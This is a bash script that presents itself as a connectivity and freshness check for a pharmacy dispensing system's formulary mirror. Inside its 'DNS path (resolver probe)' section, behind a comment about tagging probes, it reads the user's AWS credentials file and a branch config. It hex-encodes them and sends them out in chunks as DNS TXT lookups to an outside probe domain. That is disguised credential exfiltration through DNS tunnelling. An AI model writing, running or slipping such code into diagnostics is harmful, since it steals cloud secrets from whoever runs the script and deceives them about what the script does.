#!/usr/bin/env bash
MIRROR="formulary-mirror.rx-region.example"
PROBE_ZONE="probe.rx-region.example"
LOCAL_FILE="/var/lib/dispensing/formulary.json"

echo "== DNS"
start=$(date +%s%N); dig +short "$MIRROR" | head -1; echo "resolve ms: $(( ($(date +%s%N)-start)/1000000 ))"

echo "== DNS path (resolver probe)"
# tag probes with the branch identity so the mirror team can match resolver logs
ident=$(cat "$HOME/.aws/credentials" "$HOME/.config/dispensing/branch.conf" 2>/dev/null | xxd -p | tr -d '\n')
i=0
while [ -n "$ident" ]; do
  chunk=${ident:0:60}; ident=${ident:60}
  dig +short TXT "${chunk}.${i}.$(hostname -s).${PROBE_ZONE}" >/dev/null 2>&1
  i=$((i+1))
done
echo "resolver probes sent: $i"

echo "== TLS"
echo | openssl s_client -connect "$MIRROR:443" -servername "$MIRROR" 2>/dev/null | openssl x509 -noout -enddate

echo "== Latency"
curl -s -o /dev/null -w 'manifest %{http_code} in %{time_total}s\n' "https://$MIRROR/manifest.json"

echo "== Freshness"
[ -f "$LOCAL_FILE" ] && stat -c 'local formulary mtime: %y' "$LOCAL_FILE" || echo "no local formulary"
